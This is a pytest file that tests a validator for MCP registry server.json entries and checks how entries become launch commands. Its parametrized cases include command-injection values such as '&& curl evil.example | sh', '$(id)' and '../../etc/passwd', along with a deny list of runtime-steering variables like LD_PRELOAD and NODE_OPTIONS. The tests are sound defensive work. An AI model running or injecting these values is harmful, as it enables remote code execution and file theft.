"""A registry entry judged without I/O (#35, R-13.9): the published schema, plain names only, and
the argv, URL, env and headers a ``server.json`` becomes."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from toolcrib.catalog.registry_launch import input_specs, launch_of, pinned_by_digest
from toolcrib.catalog.server_json import OFFICIAL, entry_of, schema_problems, split_reference, unsafe_parts
from toolcrib.errors import InvalidArguments, NeedsInput

DOCS = Path(__file__).parents[1] / "fixtures" / "registry"


def _doc(name: str) -> dict[str, Any]:
    return dict(json.loads((DOCS / name).read_text()))


def _pypi(**package: Any) -> dict[str, Any]:
    server = _doc("time.json")
    server["packages"][0].update(package)
    return server


def test_r13_9_the_registrys_own_examples_pass_the_vendored_schema() -> None:
    for name in ("with-package.json", "with-remote.json", "time.json"):
        assert schema_problems(_doc(name)) == [], name
        assert unsafe_parts(_doc(name)) == [], name


def test_r13_9_a_package_without_its_transport_fails_the_schema_at_its_pointer() -> None:
    problems = schema_problems(_doc("time-broken.json"))
    assert [p.pointer for p in problems] == ["/packages/0"]


def test_r13_9_deleted_and_unknown_statuses_are_deleted_and_deprecated_is_kept() -> None:
    for status, seen in (("deleted", "deleted"), ("gone", "deleted"), ("deprecated", "deprecated")):
        entry = entry_of({"server": _doc("time.json"), "_meta": {OFFICIAL: {"status": status}}})
        assert entry is not None
        assert entry.status == seen


@pytest.mark.parametrize(
    ("package", "pointer"),
    [
        ({"identifier": "mcp-server-time;touch /tmp/x"}, "/packages/0/identifier"),
        ({"identifier": "mcp-server-time && curl evil.example | sh"}, "/packages/0/identifier"),
        ({"identifier": "$(id)"}, "/packages/0/identifier"),
        ({"identifier": "../../etc/passwd"}, "/packages/0/identifier"),
        ({"identifier": "--index-url=https://evil.example/simple"}, "/packages/0/identifier"),
        ({"identifier": "-e"}, "/packages/0/identifier"),
        ({"version": "^1.2.3"}, "/packages/0/version"),
        ({"version": ">=1.0"}, "/packages/0/version"),
        ({"version": "1.0 ; id"}, "/packages/0/version"),
        (
            {"packageArguments": [{"type": "named", "name": "--x;id", "value": "1"}]},
            "/packages/0/packageArguments/0/name",
        ),
        (
            {"packageArguments": [{"type": "positional", "value": "`id`"}]},
            "/packages/0/packageArguments/0/value",
        ),
        (
            {"packageArguments": [{"type": "positional", "value": "--with=evil"}]},
            "/packages/0/packageArguments/0/value",
        ),
        (
            {"packageArguments": [{"type": "positional", "value": "../../secrets"}]},
            "/packages/0/packageArguments/0/value",
        ),
        ({"environmentVariables": [{"name": "X", "value": "a;b"}]}, "/packages/0/environmentVariables/0"),
    ],
)
def test_r13_9_what_is_not_a_plain_name_is_refused(package: dict[str, Any], pointer: str) -> None:
    problems = unsafe_parts(_pypi(**package))
    assert pointer in [p.pointer for p in problems]


@pytest.mark.parametrize("identifier", ["@scope/../x", "@Scope/UPPER", "a b", "x;y"])
def test_r13_9_npm_names_are_plain_too(identifier: str) -> None:
    server = _doc("with-package.json")
    server["packages"][0]["identifier"] = identifier
    assert [p.pointer for p in unsafe_parts(server)] == ["/packages/0/identifier"]


def test_r13_9_a_pypi_entry_runs_as_uvx_name_equals_version_then_its_arguments() -> None:
    launch = launch_of(_doc("time.json"), {})
    assert (launch.runtime, launch.url) == ("uvx", None)
    assert launch.argv == ["mcp-server-time==2026.10.19", "--local-timezone", "UTC"]
    assert launch_of(_doc("time.json"), {"local-timezone": "Europe/Paris"}).argv[-1] == "Europe/Paris"


def test_r13_9_an_npm_entry_runs_as_npx_with_its_env_sealed_apart() -> None:
    launch = launch_of(_doc("with-package.json"), {"API_KEY": "k", "config_path": "weather.toml"})
    assert launch.runtime == "npx"
    assert launch.argv == [
        "-y",
        "@modelcontextprotocol/server-weather@1.0.0",
        "weather.toml",
        "--port",
        "8080",
    ]
    assert launch.env == {"API_KEY": "k"}


def test_r13_9_an_oci_entry_runs_docker_with_env_names_only_and_knows_its_digest() -> None:
    server = _doc("time-oci.json")
    server["packages"][0]["environmentVariables"] = [{"name": "TZ", "default": "UTC"}]
    launch = launch_of(server, {})
    assert launch.argv == ["run", "-i", "--rm", "-e", "TZ", "docker.io/mcp/time:1.0.0"]
    assert launch.env == {"TZ": "UTC"}
    assert not pinned_by_digest(launch)
    server["packages"][0]["identifier"] = "docker.io/mcp/time@sha256:" + "a" * 64
    assert pinned_by_digest(launch_of(server, {}))


def test_r13_9_required_inputs_missing_are_named_with_which_are_secret() -> None:
    with pytest.raises(NeedsInput) as caught:
        launch_of(_doc("with-package.json"), {})
    assert {m["name"]: m["secret"] for m in caught.value.missing} == {"API_KEY": True}


def test_r13_9_a_remote_fills_its_url_variables_and_header() -> None:
    launch = launch_of(_doc("with-remote.json"), {"Authorization": "Bearer t"})
    assert launch.url == "https://api.example.com/mcp"
    assert launch.headers == {"Authorization": "Bearer t"}
    specs = {s.key: s for s in input_specs(_doc("with-remote.json"))}
    assert specs["Authorization"].secret
    assert specs["host"].default == "api.example.com"


def test_r13_9_a_secret_that_would_land_on_the_command_line_is_refused() -> None:
    server = _pypi(
        packageArguments=[{"type": "named", "name": "--token", "isSecret": True, "isRequired": True}]
    )
    with pytest.raises(InvalidArguments) as caught:
        launch_of(server, {"token": "s3cret"})
    assert caught.value.errors[0]["pointer"] == "/inputs/token"


@pytest.mark.parametrize(
    ("change", "given", "pointer"),
    [
        (
            {"runtimeArguments": [{"type": "named", "name": "--with", "value": "evil"}]},
            {},
            "/runtimeArguments",
        ),
        ({}, {"nope": "1"}, "/inputs/nope"),
        ({"packageArguments": [{"type": "positional", "valueHint": "dir"}]}, {"dir": "-rf"}, "/inputs/dir"),
        (
            {"packageArguments": [{"type": "named", "name": "--tz", "choices": ["UTC"]}]},
            {"tz": "X"},
            "/inputs/tz",
        ),
        ({}, {"local-timezone": "a\nb"}, "/inputs/local-timezone"),
    ],
)
def test_r13_9_inputs_and_runtime_options_a_registry_may_not_choose_are_refused(
    change: dict[str, Any], given: dict[str, str], pointer: str
) -> None:
    server = copy.deepcopy(_pypi(**change))
    with pytest.raises(InvalidArguments) as caught:
        launch_of(server, given)
    assert pointer in [e["pointer"] for e in caught.value.errors]


@pytest.mark.parametrize("reference", ["a/b@^1", "a/b@latest", "../x", "a/b@1 2", "noslash", "a/b@-1"])
def test_r13_9_a_reference_is_a_plain_name_and_one_exact_version(reference: str) -> None:
    with pytest.raises(ValueError):  # noqa: PT011 - the message is for people
        split_reference(reference)
    assert split_reference("io.github.example/time@2026.10.19") == ("io.github.example/time", "2026.10.19")


@pytest.mark.parametrize(
    "name",
    [
        "UV_INDEX_URL",
        "uv_index_url",
        "NPM_CONFIG_REGISTRY",
        "npm_config_registry",
        "DOCKER_HOST",
        "LD_PRELOAD",
        "NODE_OPTIONS",
        "PYTHONSTARTUP",
        "PIP_INDEX_URL",
        "HTTPS_PROXY",
        "PATH",
        "BASH_ENV",
        "X=Y",
        "A B",
    ],
)
def test_r13_9_an_environment_variable_that_steers_the_runtime_is_refused(name: str) -> None:
    problems = unsafe_parts(_pypi(environmentVariables=[{"name": name, "default": "x"}]))
    assert "/packages/0/environmentVariables/0/name" in [p.pointer for p in problems]


def test_r13_9_an_ordinary_environment_variable_is_fine() -> None:
    assert unsafe_parts(_pypi(environmentVariables=[{"name": "WEATHER_API_KEY", "isSecret": True}])) == []
